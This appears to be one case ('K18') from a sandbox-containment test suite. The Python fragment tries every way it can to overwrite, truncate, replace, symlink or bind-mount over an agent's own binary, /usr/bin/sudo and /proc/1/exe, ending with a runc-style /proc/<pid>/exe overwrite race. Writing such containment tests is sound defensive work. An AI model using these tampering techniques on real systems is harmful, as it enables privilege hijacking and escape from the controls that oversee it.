# K18: the agent's own binary, by every name under which it can be reached, and the loader that it might use.
if "root" in sys.argv:
    as_root()
if "arm" in sys.argv:
    # Outside there is no agent: a copy of a program takes its place.
    open("/media/agent", "wb").write(open("/bin/true", "rb").read())
print("name", os.readlink("/proc/self/exe"))
TARGETS = ["/run/bailey/agent", "/usr/bin/sudo", "/proc/1/exe", f"/proc/{os.getppid()}/exe"] + sys.argv[2:]
SPOIL = b"#!/proc/self/exe\n" * 64
for target in TARGETS:
    for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
        attempt(lambda: os.write(os.open(target, flags), SPOIL))
    attempt(os.truncate, target, 0)
    attempt(os.chmod, target, 0o777)
    attempt(os.rename, target, target + ".old")
    attempt(os.unlink, target)
    attempt(os.symlink, "/proc/self/exe", target)
    attempt(lambda: os.sendfile(os.open(target, os.O_RDWR), os.open("/bin/sh", os.O_RDONLY), 0, 65536))
    attempt(subprocess.run, ["mount", "--bind", "/bin/sh", target], capture_output=True)
    attempt(lambda: libc.mount(b"/bin/sh", target.encode(), None, 4096, None))
# The runc way: wait for something that executes the agent, and write while it does.
for _ in range(20):
    runner = attempt(subprocess.Popen, ["/usr/bin/sudo", "true"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            write(f"/proc/{entry}/exe", SPOIL)
    attempt(lambda: runner.wait(5))
hold()
